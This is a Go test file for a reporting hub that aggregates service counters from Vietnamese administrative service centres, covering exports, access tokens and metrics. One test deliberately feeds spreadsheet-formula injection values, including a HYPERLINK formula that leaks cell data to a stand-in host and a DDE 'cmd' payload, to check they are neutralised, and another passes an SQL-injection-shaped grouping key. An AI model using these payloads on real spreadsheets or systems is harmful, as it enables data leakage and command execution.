package hub

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"motcua-agent/sync/wire"
)

func TestParsePeriod(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		cases := []struct {
			kind, at, from, to string
			bad                bool
		}{
			{"day", "2026-11-23", "2026-11-23", "2026-11-23", false},
			{"week", "2026-W48", "2026-11-23", "2026-11-29", false},
			{"week", "2026-W01", "2025-12-29", "2026-01-04", false},
			{"week", "2020-W53", "2020-12-28", "2021-01-03", false},
			{"week", "2025-W53", "", "", true},                      // 2025 has 52 ISO weeks
			{"week", "2026-W53", "2026-12-28", "2027-01-03", false}, // 2026 starts on a Thursday: 53 weeks
			{"month", "2026-02", "2026-02-01", "2026-02-28", false},
			{"month", "2028-02", "2028-02-01", "2028-02-29", false},
			{"month", "2026-13", "", "", true},
			{"day", "23/11/2026", "", "", true},
			{"year", "2026", "", "", true},
			{"week", "2026-48", "", "", true},
		}
		for _, c := range cases {
			p, err := ParsePeriod(c.kind, c.at)
			if c.bad {
				if err == nil {
					t.Errorf("%s %s: accepted as %+v", c.kind, c.at, p)
				}
				continue
			}
			if err != nil || p.From != c.from || p.To != c.to {
				t.Errorf("%s %s = %+v, %v; want %s..%s", c.kind, c.at, p, err, c.from, c.to)
			}
		}
	})
}

// seedProvince pushes counters of three agents at two communes.
func seedProvince(t *testing.T, th *testHub) {
	ctx := context.Background()
	sites := []struct{ site, commune, device string }{
		{"VH-1", "Phường Vinh Hưng", "vh-pc1"}, {"VH-1", "Phường Vinh Hưng", "vh-pc2"}, {"CL-1", "Xã Cửa Lò", "cl-pc1"},
	}
	for i, s := range sites {
		secret, err := th.Enroll(ctx, Site{Code: s.site, Name: "Trung tâm phục vụ hành chính công", Province: "Nghệ An", Commune: s.commune}, s.device)
		if err != nil {
			t.Fatal(err)
		}
		key, _ := wire.ParseSecret(secret)
		n := int64(i + 1)
		body := pushBody(t, s.site, s.device,
			snap("2026-11-02", MetricDossiersReceived, 10*n, 1, "service", "13", "channel", "counter", "counter", "Q1"),
			snap("2026-11-02", MetricDossiersReceived, 5*n, 2, "service", "13", "channel", "online", "counter", "Q1"),
			snap("2026-11-02", MetricDossiersDigitized, 12*n, 3, "service", "13", "counter", "Q1"),
			snap("2026-11-03", MetricDossiersReceived, n, 4, "service", "3", "channel", "counter", "counter", "Q2"),
			snap("2026-11-03", MetricDossiersReceived, 7, 5, "service", "9.999", "counter", "Q2"),
			snap("2026-10-31", MetricDossiersReceived, 100, 6, "service", "13", "counter", "Q1"), // previous month
			snap("2026-11-24", "identity.verifications", 2*n, 7, "outcome", "ok"),
		)
		if status, er, _ := th.do(t, signedRequest{device: s.device, secret: key, body: body, gzip: true}); status != 200 {
			t.Fatalf("seed %s: %d %+v", s.device, status, er)
		}
	}
}

func TestServiceTableAndTotals(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t)
		seedProvince(t, th)
		ctx := context.Background()
		p, _ := ParsePeriod("month", "2026-11")
		tab, err := th.Services(ctx, p, Filter{})
		if err != nil {
			t.Fatal(err)
		}
		if len(tab.Rows) != 26 { // 25 services and "other"
			t.Fatalf("%d rows, want 26", len(tab.Rows))
		}
		birth := tab.Rows[12]
		if birth.No != 13 || birth.Name != "Đăng ký khai sinh" || birth.Received != 90 || birth.Online != 30 || birth.Digitized != 72 || birth.Share != 80 {
			t.Fatalf("row 13 = %+v", birth)
		}
		if r := tab.Rows[2]; r.Received != 6 || r.Digitized != 0 || r.Share != 0 {
			t.Fatalf("row 3 = %+v", r)
		}
		if other := tab.Rows[25]; other.No != 0 || other.Received != 21 {
			t.Fatalf("other row = %+v", other)
		}
		if tab.Total.Received != 117 || tab.Total.Digitized != 72 {
			t.Fatalf("total = %+v", tab.Total)
		}
		// Filtered to one commune: only its two agents.
		tab, _ = th.Services(ctx, p, Filter{Commune: "Xã Cửa Lò"})
		if tab.Rows[12].Received != 45 {
			t.Fatalf("Cửa Lò row 13 = %+v", tab.Rows[12])
		}
		// Totals by commune and counter for a week.
		w, _ := ParsePeriod("week", "2026-W45") // 2026-11-02 .. 2026-11-08
		rep, err := th.Totals(ctx, Query{Period: w, By: []string{"commune", "counter"}, Filter: Filter{Metric: MetricDossiersReceived}})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]int64{}
		for _, r := range rep.Rows {
			got[strings.Join(r.Keys, "/")] = r.Value
		}
		want := map[string]int64{"Phường Vinh Hưng/Q1": 45, "Phường Vinh Hưng/Q2": 17, "Xã Cửa Lò/Q1": 45, "Xã Cửa Lò/Q2": 10}
		if len(got) != len(want) {
			t.Fatalf("totals = %v, want %v", got, want)
		}
		for k, v := range want {
			if got[k] != v {
				t.Fatalf("totals = %v, want %v", got, want)
			}
		}
		if _, err := th.Totals(ctx, Query{Period: w, By: []string{"dims) --"}}); err == nil {
			t.Fatal("accepted an unknown grouping key")
		}
	})
}

func TestReportExports(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t)
		seedProvince(t, th)
		get := func(path string) (*http.Response, []byte) {
			t.Helper()
			resp, err := http.Get(th.srv.URL + path)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp, b
		}
		resp, body := get("/api/v1/report/services?period=month&at=2026-11&format=csv")
		if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("csv: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
		}
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(records) != 1+26+1 || records[0][1] != "Tên thủ tục hành chính" {
			t.Fatalf("csv shape: %d records, header %v", len(records), records[0])
		}
		if r := records[13]; r[0] != "13" || r[1] != "Đăng ký khai sinh" || r[3] != "90" || r[5] != "72" || r[6] != "80,0" {
			t.Fatalf("csv row 13 = %v", r)
		}
		if last := records[len(records)-1]; last[1] != "Tổng cộng" || last[3] != "117" {
			t.Fatalf("csv total = %v", last)
		}

		resp, body = get("/api/v1/report/services?period=week&at=2026-W45")
		var tab ServiceTable
		if err := json.Unmarshal(body, &tab); err != nil || resp.StatusCode != 200 {
			t.Fatalf("json: %d %v", resp.StatusCode, err)
		}
		if tab.Rows[12].Received != 90 || tab.Period.From != "2026-11-02" {
			t.Fatalf("weekly json row 13 = %+v period %+v", tab.Rows[12], tab.Period)
		}

		resp, body = get("/api/v1/report?period=day&at=2026-11-24&by=site,dim.outcome&format=csv")
		if resp.StatusCode != 200 || !strings.Contains(string(body), "CL-1,ok,6") || !strings.Contains(string(body), "VH-1,ok,6") {
			t.Fatalf("totals csv: %d\n%s", resp.StatusCode, body)
		}
		for _, bad := range []string{"/api/v1/report?period=year", "/api/v1/report?by=nonsense", "/api/v1/report/services?period=week&at=2026-99"} {
			if resp, _ := get(bad); resp.StatusCode != 400 {
				t.Fatalf("%s: %d, want 400", bad, resp.StatusCode)
			}
		}
	})
}

func TestPageShowsTablesAndFleet(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t, func(o *Options) { o.OpenFleet = true })
		seedProvince(t, th)
		if _, err := th.Enroll(context.Background(), Site{Code: "QL-1", Commune: "Xã Quỳnh Lưu"}, "silent-pc"); err != nil {
			t.Fatal(err)
		}
		resp, err := http.Get(th.srv.URL + "/?period=month&at=2026-11&by=commune")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		page := string(b)
		for _, want := range []string{
			"Báo cáo dịch vụ công thiết yếu", "Đăng ký khai sinh", "<td class=\"n\">90</td>", // the service table
			"Phường Vinh Hưng",                                       // totals by commune
			"vh-pc1", "printer: lỗi", "out of paper", "nhanh 2 giây", // the fleet with device state and clock offset
			"silent-pc", "chưa bao giờ", // an agent never heard from
			"format=csv",
		} {
			if !strings.Contains(page, want) {
				t.Errorf("page lacks %q", want)
			}
		}
	})
}

func TestHealthAndMetrics(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t)
		seedProvince(t, th)
		resp, err := http.Get(th.srv.URL + "/healthz")
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("healthz: %v %v", resp, err)
		}
		resp.Body.Close()
		resp, err = http.Get(th.srv.URL + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		for _, want := range []string{`motcua_hub_pushes_total{code="ok"} 3`, "motcua_hub_snapshots_accepted_total 21", "motcua_hub_devices 3", "motcua_hub_push_seconds_count 3"} {
			if !strings.Contains(string(b), want) {
				t.Errorf("metrics lack %q:\n%s", want, b)
			}
		}
	})
}

func TestLoadCatalogue(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		cat, err := LoadCatalogue(strings.NewReader("no,code,name,level\n13,1.001193,Đăng ký khai sinh,3\n13,KS,Đăng ký khai sinh,3\n14,1.000656,Đăng ký khai tử,3\n"))
		if err != nil || len(cat) != 2 || len(cat[0].Codes) != 2 || cat[1].Codes[0] != "1.000656" {
			t.Fatalf("catalogue = %+v, %v", cat, err)
		}
		for _, bad := range []string{"", "no,code,name\n", "no,code,name,level\n", "no,code,name,level\nx,1,a,3\n", "no,code,name,level\n1,,a,3\n"} {
			if _, err := LoadCatalogue(strings.NewReader(bad)); err == nil {
				t.Errorf("accepted %q", bad)
			}
		}
	})
}

func TestFleetShutWithoutReportToken(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t)
		seedProvince(t, th)
		resp, err := http.Get(th.srv.URL + "/api/v1/fleet")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden || strings.Contains(string(b), "vh-pc1") {
			t.Fatalf("fleet without a report token: %d %s", resp.StatusCode, b)
		}
		resp, err = http.Get(th.srv.URL + "/?period=month&at=2026-11")
		if err != nil {
			t.Fatal(err)
		}
		b, _ = io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || strings.Contains(string(b), "vh-pc1") || !strings.Contains(string(b), "fleet-shut") {
			t.Fatalf("page without a report token shows device names or no note: %d", resp.StatusCode)
		}
	})
}

func TestReportToken(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		now := func() time.Time { return time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC) }
		h, err := newBackend(t).open(Options{Now: now, ReportToken: "province-secret-token"})
		if err != nil {
			t.Fatal(err)
		}
		defer h.Close()
		srv := httptest.NewServer(h.Handler())
		defer srv.Close()
		for _, path := range []string{"/", "/api/v1/report", "/api/v1/report/services", "/api/v1/fleet"} {
			resp, err := http.Get(srv.URL + path)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s without token: %d", path, resp.StatusCode)
			}
			resp, _ = http.Get(srv.URL + path + "?token=province-secret-token")
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Errorf("%s with token: %d", path, resp.StatusCode)
			}
			if path == "/" && !strings.Contains(string(b), `name="token" value="province-secret-token"`) {
				t.Error("the page's form drops the token")
			}
		}
		if resp, _ := http.Get(srv.URL + "/healthz"); resp.StatusCode != 200 {
			t.Errorf("healthz needs no token: %d", resp.StatusCode)
		}
	})
}

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T) {
		th := startHub(t)
		key := th.enroll(t, "VH-1", "pc1")
		hostile := []string{`=HYPERLINK("http://x.example/?a="&A1,"bấm")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB"}
		var snaps []wire.Snapshot
		for i, v := range hostile {
			snaps = append(snaps, snap("2026-11-20", "checkins", int64(i+1), int64(i+1), "note", v))
		}
		snaps = append(snaps, snap("2026-11-20", "checkins", 9, 9, "note", "-7")) // a number stays a number
		// A push can no longer carry such values (dims are short codes of the vocabulary's
		// keys); rows in a database from before that rule, or a bug, still reach the CSV.
		if status, er, _ := th.do(t, signedRequest{device: "pc1", secret: key, body: pushBody(t, "VH-1", "pc1", snaps...)}); status != http.StatusUnprocessableEntity {
			t.Fatalf("push of formula-shaped dims: %d %+v, want 422", status, er)
		}
		for _, s := range snaps {
			if _, err := th.Hub.db.Exec(`INSERT INTO counters(device, day, metric, dims, epoch, value, revision) VALUES(?, ?, ?, ?, '', ?, ?)`,
				"pc1", s.Day, s.Metric, wire.CanonicalDims(s.Dims), s.Value, s.Revision); err != nil {
				t.Fatal(err)
			}
		}
		resp, err := http.Get(th.srv.URL + "/api/v1/report?period=day&at=2026-11-20&by=dim.note&format=csv")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, r := range records[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-7" {
					t.Errorf("cell %q would be a formula", cell)
				}
				seen[cell] = true
			}
		}
		for _, v := range hostile {
			if !seen["'"+v] {
				t.Errorf("value %q not kept as text ('%s); got %v", v, v, records)
			}
		}
		if !seen["-7"] {
			t.Errorf("the number -7 was altered: %v", records)
		}
	})
}
